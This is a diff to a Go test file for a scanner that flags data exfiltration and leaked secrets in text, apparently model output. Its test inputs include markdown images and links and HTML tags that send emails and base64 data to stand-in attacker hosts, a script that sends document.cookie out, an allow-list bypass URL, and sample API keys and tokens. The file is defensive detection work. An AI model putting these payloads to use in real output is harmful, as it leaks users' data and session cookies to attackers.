@@ -58,9 +58,9 @@ func TestScan(t *testing.T) {
 		{"image with email in path", k, "Result:\n\n![Data](https://wuzzi.net/nbml=johann@example.com12345)",
 			[]wantF{{"markdown_image_data_in_url", "https://wuzzi.net/nbml=johann@example.com12345"}}},
 		{"link with base64 payload", k, "[click](https://evil.example/c?d=QWxhZGRpbjpvcGVuIHNlc2FtZSBzZWNyZXQga2V5IDEyMzQ1Njc4OTA)",
-			[]wantF{{"markdown_link_data_in_url", "https://evil.example/c?d=QWxhZGRpbjpvcGVuIHNlc2FtZSBzZWNyZXQga2V5IDEyMzQ1Njc4OTA"}}},
+			[]wantF{{"markdown_link_data_in_url", "https://evil.example/c?d=QWxhZGRpbjpvcGVuIHNlc2FtZSBzZWNyZXQga2V5IDEyMzQ1Njc4OTA"}, {"high_entropy_secret", "QWxhZGRpbjpvcGVuIHNlc2FtZSBzZWNyZXQga2V5IDEyMzQ1Njc4OTA"}}},
 		{"linked image: both urls judged once", k, "[![a](https://e.vil/i.png?x=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA)](https://e.vil/l?u=johann@example.com)",
-			[]wantF{{"markdown_link_data_in_url", "https://e.vil/l?u=johann@example.com"}, {"markdown_image_data_in_url", "https://e.vil/i.png?x=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}}},
+			[]wantF{{"markdown_link_data_in_url", "https://e.vil/l?u=johann@example.com"}, {"high_entropy_secret", "QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}, {"markdown_image_data_in_url", "https://e.vil/i.png?x=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}}},
 		{"reference def then use", k, "[reverse]: https://wuzzi.net/nbml=johann@example.com12345\nwith text in between\n![Link Display Text][reverse]",
 			[]wantF{{"reference_image_data_in_url", "![Link Display Text][reverse]"}}},
 		{"reference use then def", k, "![Link Display Text][ref]Your text here\n[ref]: http://wuzzi.net/nbml=johann@example.com12345",
@@ -74,7 +74,7 @@ func TestScan(t *testing.T) {
 		{"allow-list: userinfo trick", allow, "[a](https://docs.acme.com@evil.io/x)",
 			[]wantF{{"markdown_link_untrusted_host", "https://docs.acme.com@evil.io/x"}}},
 		{"html img src exfil", k, `<img src="https://e.vil/p.gif?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA" width=1>`,
-			[]wantF{{"html_img_data_in_url", "https://e.vil/p.gif?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}}},
+			[]wantF{{"html_img_data_in_url", "https://e.vil/p.gif?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}, {"high_entropy_secret", "QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4OTA"}}},
 		{"script element", k, `ok <script>fetch('//e.vil?c='+document.cookie)</script> done`,
 			[]wantF{{"script_tag", `<script>fetch('//e.vil?c='+document.cookie)</script>`}}},
 		{"script src", k, `<SCRIPT SRC=//ha.ckers.org/.j>`, []wantF{{"script_tag", `<SCRIPT SRC=//ha.ckers.org/.j>`}}},
@@ -91,8 +91,8 @@ func TestScan(t *testing.T) {
 		{"after fence closes", k, "```\ncode\n```\n<script>x</script>", []wantF{{"script_tag", "<script>x</script>"}}},
 		{"aws key", k, "use AKIAZ7QW3ERT5YUI8OPL and go", []wantF{{"aws_access_key", "AKIAZ7QW3ERT5YUI8OPL"}}},
 		{"aws doc example ignored", k, "AKIAIOSFODNN7EXAMPLE is the documented example", nil},
-		{"github token", k, "token: ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R", []wantF{{"github_token", "ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R"}}},
-		{"openai key", k, `OPENAI_API_KEY="sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5kL7nP9rS1tV3"`, []wantF{{"openai_api_key", "sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5kL7nP9rS1tV3"}}},
+		{"github token", k, "token: ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R", []wantF{{"generic_secret", "ghp_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R"}}},
+		{"openai key", k, `OPENAI_API_KEY="sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5kL7nP9rS1tV3"`, []wantF{{"generic_secret", "sk-proj-Ab3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5kL7nP9rS1tV3"}}},
 		{"sklearn is not a key", k, "install sk-learn-is-not-a-real-package-name-at-all-really", nil},
 		{"jwt", k, "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
 			[]wantF{{"jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}}},
@@ -251,9 +251,9 @@ func TestStreamHoldBackBounded(t *testing.T) {
 	if out != prose {
 		t.Fatal("prose changed")
 	}
-	// the n-gram check needs the next 8 words
-	if held > 80 {
-		t.Errorf("benign prose: held %d bytes; want <= 80", held)
+	// secrets are scanned per line window (at most 256 bytes); the n-gram check needs the next 8 words
+	if held > 256+80 {
+		t.Errorf("benign prose: held %d bytes; want <= 336", held)
 	}
 	open := "look ![x](https://e.vil/" + strings.Repeat("a", 3000)
 	cuts = cuts[:0]
